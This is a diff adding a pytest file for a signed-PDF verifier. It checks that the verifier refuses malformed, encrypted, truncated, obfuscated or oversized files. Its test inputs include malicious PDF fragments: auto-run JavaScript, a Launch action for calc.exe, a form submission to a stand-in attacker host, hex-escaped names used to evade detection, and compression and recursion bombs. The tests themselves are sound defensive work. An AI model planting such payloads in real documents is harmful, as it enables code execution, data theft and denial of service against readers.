@@ -1,0 +1,191 @@
+"""What the bytes alone give away: not a PDF, not whole, not plain, not of this world."""
+
+import time
+import zlib
+
+import pytest
+
+from shared.signatures.verdict import Disposition, Reason
+from tests import signed_pdfs as pdfs
+from tests.shared.signatures.attacks import incremental_update
+from tests.signed_pdfs import How, a_paper, judged, person, signed
+
+SECONDS = 5
+
+
+@pytest.fixture(scope="module")
+def one() -> bytes:
+    return signed(a_paper(), How(person()))
+
+
+def reasons(file: bytes) -> tuple[Reason, ...]:
+    verdict = judged(file)
+    assert verdict.disposition is Disposition.REFUSE
+    return verdict.reasons
+
+
+def test_an_empty_file_is_refused():
+    assert reasons(b"") == (Reason.EMPTY,)
+
+
+@pytest.mark.parametrize("file", [b"PK\x03\x04", b"\x89PNG\r\n", b"xin chao", b"%PDF-1.9\n%%EOF", b"%PDF-3.0\n%%EOF"])
+def test_what_is_not_a_pdf_is_refused(file):
+    assert reasons(file) == (Reason.NOT_PDF,)
+
+
+@pytest.mark.parametrize("before", [b"\n", b"\xef\xbb\xbf", b"GIF89a;", b"<html>"])
+def test_nothing_may_come_before_the_header(one, before):
+    assert reasons(before + one) == (Reason.NOT_PDF,)
+
+
+@pytest.mark.parametrize("after", [b"x", b"\x00", b" ", b"PK\x05\x06", b"\n\n\n\n\n", b"\n<script>"])
+def test_nothing_may_come_after_the_end(one, after):
+    assert reasons(one + after) == (Reason.TRAILING_DATA,)
+
+
+@pytest.mark.parametrize("part", [0.1, 0.5, 0.9, 0.99])
+def test_a_file_cut_short_is_refused(one, part):
+    assert reasons(one[: int(len(one) * part)])[0] in {Reason.TRUNCATED, Reason.TRAILING_DATA, Reason.MALFORMED}
+
+
+def test_an_unsigned_paper_is_refused():
+    assert reasons(a_paper()) == (Reason.UNSIGNED,)
+
+
+def test_a_file_too_large_is_refused(one):
+    assert reasons(one[:-6] + bytes(40 * 1024 * 1024) + one[-6:]) == (Reason.TOO_COMPLEX,)
+
+
+def test_an_encrypted_file_is_refused():
+    assert reasons(pdfs.an_encrypted_paper()) == (Reason.ENCRYPTED,)
+
+
+def test_an_encrypted_file_is_refused_whatever_its_filter():
+    file = a_paper().replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Nobody>>>>")
+    assert reasons(file) == (Reason.ENCRYPTED,)
+
+
+@pytest.mark.parametrize("name", [b"/By#74eRange", b"/#54ype", b"/Cont#65nts"])
+def test_structural_names_in_disguise_are_refused(name):
+    assert Reason.MALFORMED in reasons(signed(a_paper(catalogue=name + b" 1"), How(person())))
+
+
+# --- active content --------------------------------------------------------------------------------------------------
+
+ACTIONS = [
+    b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
+    b"/OpenAction<</S/Java#53cript/JS(app.alert(1))>>",
+    b"/OpenAction<</S /Launch/F(calc.exe)>>",
+    b"/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>",
+    b"/OpenAction<</S/ImportData/F(x)>>",
+    b"/OpenAction<</S/GoToE/D[0]>>",
+    b"/OpenAction<</S/GoToR/F(x)/D[0]>>",
+    b"/Names<</EmbeddedFiles<</Names[]>>>>",
+    b"/Names<</JavaScript<</Names[]>>>>",
+    b"/AF[<</Type/Filespec/EF<</F 3 0 R>>>>]",
+    b"/AF[<</Type/Filespec/EF %x\n 3 0 R>>]",
+    b"/AcroForm<</Fields[]/XFA 3 0 R>>",
+    b"/X<</Subtype/RichMedia>>",
+    b"/X:////S/JavaScript",
+]
+
+
+@pytest.mark.parametrize("action", ACTIONS)
+def test_active_content_is_refused_even_when_signed(action):
+    assert Reason.ACTIVE_CONTENT in reasons(signed(a_paper(catalogue=action), How(person())))
+
+
+def test_active_content_is_found_inside_object_streams():
+    file = signed(pdfs.a_compressed_paper(pages=b"/AA<</O<</S/JavaScript/JS(1)>>>>"), How(person()))
+    assert b"JavaScript" not in file
+    assert Reason.ACTIVE_CONTENT in reasons(file)
+
+
+def test_active_content_is_found_in_disguise_and_where_nothing_reaches():
+    file = signed(incremental_update(a_paper(), {90: b"<</S/Java#53cript/JS(1)>>"}), How(person()))
+    assert b"JavaScript" not in file
+    assert Reason.ACTIVE_CONTENT in reasons(file)
+
+
+def test_active_content_is_found_in_what_a_later_revision_replaced():
+    before = a_paper(catalogue=ACTIONS[0])
+    after = incremental_update(before, {1: b"<</Type/Catalog/Pages 2 0 R>>"})
+    assert Reason.ACTIVE_CONTENT in reasons(signed(after, How(person())))
+
+
+# --- bombs -----------------------------------------------------------------------------------------------------------
+
+
+def stream(data: bytes, entries: bytes) -> bytes:
+    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)
+
+
+def an_object_stream_bomb() -> bytes:
+    data = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
+    entries = b"/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]"
+    objects = [b"<</Type/Catalog/Pages 9 0 R>>", stream(data, entries)]
+    return pdfs.with_stream_table(objects, {9: (2, 2, 0)})
+
+
+def a_deep_array() -> bytes:
+    return a_paper(catalogue=b"/X" + b"[" * 100_000 + b"]" * 100_000)
+
+
+def a_table_that_points_to_itself() -> bytes:
+    file = a_paper()
+    start = int(file.split()[-2])
+    return file.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)
+
+
+def a_page_tree_that_is_a_ring() -> bytes:
+    return signed(a_paper(), How(person())).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")
+
+
+def a_promise_of_a_billion_entries() -> bytes:
+    return pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/Index[0 1000000000]")
+
+
+def a_disguised_promise_of_a_billion_entries() -> bytes:
+    return pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/#49ndex[0 1000000000]")
+
+
+def a_promise_hidden_behind_a_negative_width() -> bytes:
+    file = pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/Index[0 90000]")
+    return file.replace(b"/Index[0 90000]/W[1 4 2]", b"/Index[0 90000]/W[-1 0 0]")
+
+
+def a_form_that_contains_itself() -> bytes:
+    return a_paper(catalogue=b"/AcroForm<</Fields[1 0 R]>>/FT/Sig/T(x)/Kids[1 0 R]")
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        an_object_stream_bomb,
+        a_deep_array,
+        a_table_that_points_to_itself,
+        a_page_tree_that_is_a_ring,
+        a_promise_of_a_billion_entries,
+        a_disguised_promise_of_a_billion_entries,
+        a_promise_hidden_behind_a_negative_width,
+        a_form_that_contains_itself,
+    ],
+)
+def test_bombs_and_rings_end_within_bounds(bomb):
+    file = bomb()
+    start = time.thread_time()
+    reasons(file)
+    assert time.thread_time() - start < SECONDS
+
+
+def test_endless_revisions_are_refused(one):
+    file = one
+    for _ in range(70):
+        file = incremental_update(file, {}, freed={0: 65535})
+    assert reasons(file) == (Reason.TOO_COMPLEX,)
+
+
+def test_a_judgement_that_takes_too_long_ends_without_a_verdict(one):
+    verdict = judged(one, policy=pdfs.IN_NO_TIME)
+    assert verdict.reasons == (Reason.TOO_COMPLEX,)
+    assert verdict.sub_indication == "POLICY_PROCESSING_ERROR"
